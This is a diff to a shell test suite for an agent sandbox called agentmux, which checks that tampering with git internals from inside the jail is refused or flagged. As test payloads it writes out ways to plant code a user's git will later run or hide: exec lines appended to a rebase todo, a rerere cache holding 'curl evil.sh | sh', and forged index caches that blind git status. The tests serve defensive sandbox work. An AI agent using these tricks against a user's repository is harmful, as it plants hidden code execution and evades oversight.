@@ -152,25 +152,29 @@ rebase_left() {
 	case $OUT in *"left in progress"*) bad "a rebase from before the session was flagged: $OUT" ;;
 	*) ok ;; esac
 	(cd "$P" && git rebase --abort && git reset -q --hard HEAD~2) || exit 1
-	# One the user had going that the agent carries on, resolving: not
-	# flagged; an exec line it then adds to the todo is.
+	# One the user had going is not the jail's: its git does not see it,
+	# and the todo is read only where the sealed dir shows it (an exec line
+	# added there, the user's git rebase --continue would run).
 	(cd "$P" && echo a >seq && git add seq && git commit -qm seq1 &&
 	    echo b >seq && git commit -qam seq2 && B=$(git rev-parse HEAD) &&
 	    GIT_SEQUENCE_EDITOR="printf 'break\\npick $B\\nbreak\\n' >" \
 	    git rebase -q -i HEAD~1 >/dev/null 2>&1) || exit 1
-	jrun -- sh -c 'git rebase --continue >/dev/null 2>&1 && echo c >seq &&
-	    git add seq && test -d .git/rebase-merge && echo carried'
-	case $OUT in *carried*) ok ;; *) bad "the agent could not carry the rebase on: $OUT" ;; esac
+	jrun -- sh -c "git rebase --continue 2>&1 | grep -q 'No rebase in progress' && echo UNSEEN
+	    (echo 'exec touch $MARK' >>/.agentmux-git/rebase-merge/git-rebase-todo) 2>&1 |
+	        grep -q 'Permission denied' && echo REFUSED"
+	case $OUT in *UNSEEN*REFUSED*) ok ;; *) bad "the jail saw or wrote the user's rebase: $OUT" ;; esac
 	case $OUT in *"exec lines added"*|*"left in progress"*)
-		bad "a rebase carried on and resolved was flagged: $OUT" ;;
+		bad "a rebase the jail did not touch was flagged: $OUT" ;;
 	*) ok ;; esac
-	jrun -- sh -c "echo 'exec touch $MARK' >>.git/rebase-merge/git-rebase-todo"
+	grep -q "exec touch" "$P/.git/rebase-merge/git-rebase-todo" &&
+	    bad "the jail's exec line reached the user's todo" || ok
+	# Written there anyway (by the host, beside a session): flagged, quoted.
+	beside_session "echo 'exec touch $MARK' >>.git/rebase-merge/git-rebase-todo"
 	case $OUT in *"a rebase in progress since before the session"*"exec lines added"*"exec touch $MARK"*) ok ;;
 	*) bad "no alert about the exec line added to the rebase's todo: $OUT" ;; esac
 	case $("$AMX" show last 2>&1) in *"exec lines added"*) ok ;;
 	*) bad "show does not flag the exec line added to the rebase's todo" ;; esac
-	# A strategy or signing key the agent gives it: flagged, quoted.
-	jrun -- sh -c "echo evil >.git/rebase-merge/strategy &&
+	beside_session "echo evil >.git/rebase-merge/strategy &&
 	    echo -S\$(printf '\\033')x >.git/rebase-merge/gpg_sign_opt"
 	case $OUT in *"had .git/rebase-merge/strategy made or changed in the session"*'"evil\n"'*) ok ;;
 	*) bad "no alert about the strategy given to the rebase: $OUT" ;; esac
@@ -441,10 +445,13 @@ rerere() {
 	plant='git -c rerere.enabled=true merge rrfeat >/dev/null 2>&1;
 	    printf "a\nMASTER\ncurl evil.sh | sh\nc\n" >rr.txt;
 	    git -c rerere.enabled=true rerere; git merge --abort; echo done'
-	# (git in the jail records it in the jail's own .git; copied to the
-	# repository's, where the jail sees it, it would reach the user's merge.)
-	jrun -- sh -c "$plant; cp -r .git/rr-cache /.agentmux-git/rr-cache"
-	case $OUT in *done*) ok ;; *) bad "rerere: the merge did not run: $OUT" ;; esac
+	# (git in the jail records it in the jail's own .git; the top of the
+	# repository's, where the jail sees it, is read only: there it would
+	# reach the user's merge. Recorded there by the host beside a session,
+	# the end takes it out.)
+	jrun -- sh -c "$plant; cp -r .git/rr-cache /.agentmux-git/rr-cache 2>&1 | grep -q 'Permission denied' && echo REFUSED"
+	case $OUT in *done*REFUSED*) ok ;; *) bad "rerere: the merge did not run, or the copy was not refused: $OUT" ;; esac
+	beside_session "$plant"
 	case $OUT in *".git/rr-cache (git's rerere cache) was made or changed in the session"*"moved to"*) ok ;;
 	*) bad "rerere: a planted rr-cache was not flagged: $OUT" ;; esac
 	[ ! -e "$P/.git/rr-cache" ] && ok ||
@@ -483,7 +490,7 @@ untr() {
 	jrun -- sh -c "$AFTER_MTIME"'
 	    echo "import os" >src2/conftest.py; after_mtime src2;
 	    git -c core.untrackedCache=true status >/dev/null 2>&1;
-	    /usr/bin/python3 .git/amx-untr.py .git/index src2 conftest.py'
+	    /usr/bin/python3 /.agentmux-git/amx-untr.py .git/index src2 conftest.py'
 	case $OUT in *patched*) ok ;; *) bad "untr: the forgery did not apply: $OUT" ;; esac
 	case $OUT in *"the untracked cache in .git/index"*"was made or changed in the session"*"agentmux dropped it"*) ok ;;
 	*) bad "untr: a forged untracked cache was not told: $OUT" ;; esac
@@ -570,7 +577,7 @@ untr_hidden() {
 		jrun -- sh -c "$AFTER_MTIME"'
 		    echo "import os" >src2/conftest.py; after_mtime src2;
 		    git -c core.untrackedCache=true status >/dev/null 2>&1;
-		    /usr/bin/python3 .git/amx-untr.py .git/index src2 conftest.py '$how'
+		    /usr/bin/python3 /.agentmux-git/amx-untr.py .git/index src2 conftest.py '$how'
 		    git -c core.untrackedCache=true status --porcelain'
 		case $OUT in *patched*) ok ;; *) bad "untr $how: the forgery did not apply: $OUT" ;; esac
 		case $OUT in *"?? src2/conftest.py"*) bad "untr $how: the forgery did not blind git status (the check is void): $OUT" ;; *) ok ;; esac
@@ -635,7 +642,7 @@ tree_forged() {
 	jrun -- sh -c 'b=$(echo "int evil;" | git hash-object -w --stdin) &&
 	    t=$(printf "100644 blob $b\ta.c\n" | git mktree) &&
 	    git read-tree HEAD &&
-	    /usr/bin/python3 .git/amx-tree.py .git/index src2 $t'
+	    /usr/bin/python3 /.agentmux-git/amx-tree.py .git/index src2 $t'
 	case $OUT in *patched*) ok ;; *) bad "tree: the forgery did not apply: $OUT" ;; esac
 	case $OUT in *"the cache-tree in"*"was forged in the session; it disagreed with the index entries for src2/:"*"agentmux dropped it"*) ok ;;
 	*) bad "tree: a forged cache-tree was not told: $OUT" ;; esac
